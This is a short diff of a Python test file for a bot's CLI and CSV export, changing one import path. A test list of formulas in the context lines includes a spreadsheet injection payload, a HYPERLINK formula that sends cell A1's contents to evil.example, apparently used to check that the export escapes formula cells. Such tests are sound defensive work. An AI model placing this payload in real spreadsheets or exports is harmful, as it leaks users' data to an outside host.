@@ -20,7 +20,7 @@ from click.testing import CliRunner
 from bot import store
 from bot.cli import main
 from bot.export import FORMULA_STARTS, csv_cell
-from test_staff_support import intake_db, logged_in, make_intake
+from staff_support import intake_db, logged_in, make_intake
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
